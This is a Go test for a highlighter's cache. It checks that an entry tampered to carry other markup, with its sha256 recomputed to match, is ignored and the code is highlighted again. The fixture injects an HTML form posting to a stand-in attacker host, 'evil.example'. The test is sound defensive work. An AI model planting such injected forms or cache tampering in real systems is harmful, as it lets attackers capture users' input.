package highlight

import (
	"bytes"
	"crypto/sha256"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPatchedCacheEntryIgnored is failure 13: a highlight-pack entry
// patched to carry other markup (a form posting to another site), with its
// stored sha256 recomputed so that only its content can tell, is not
// served: the code is highlighted again.
func TestPatchedCacheEntryIgnored(t *testing.T) {
	dir := t.TempDir()
	code := "def f(x):\n    raise ValueError('bad x')\n"
	h, err := New(Options{CacheDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	want, err := h.Code(code, "a.py")
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	packs, _ := filepath.Glob(filepath.Join(dir, "pack-*.pack"))
	if len(packs) != 1 {
		t.Fatalf("packs: %v", packs)
	}
	data, err := os.ReadFile(packs[0])
	if err != nil {
		t.Fatal(err)
	}
	body := []byte(want)
	at := bytes.Index(data, body)
	if at < entryHead {
		t.Fatal("the entry's body is not in the pack")
	}
	// The same length, so the index still points at it.
	evil := `<form action="https://evil.example/"><input name=q></form>`
	patched := append([]byte(evil), bytes.Repeat([]byte(" "), len(body)-len(evil))...)
	copy(data[at:], patched)
	sum := sha256.Sum256(patched)
	copy(data[at-entryHead+32:at-entryHead+64], sum[:])
	if err := os.WriteFile(packs[0], data, 0o644); err != nil {
		t.Fatal(err)
	}
	h2, err := New(Options{CacheDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer h2.Close()
	got, err := h2.Code(code, "a.py")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(got), "<form") || got != want {
		t.Errorf("the patched entry was served: %.200q", got)
	}
	if !formatterMarkup(string(want)) {
		t.Errorf("the formatter's own output fails the check: %.200q", want)
	}
}
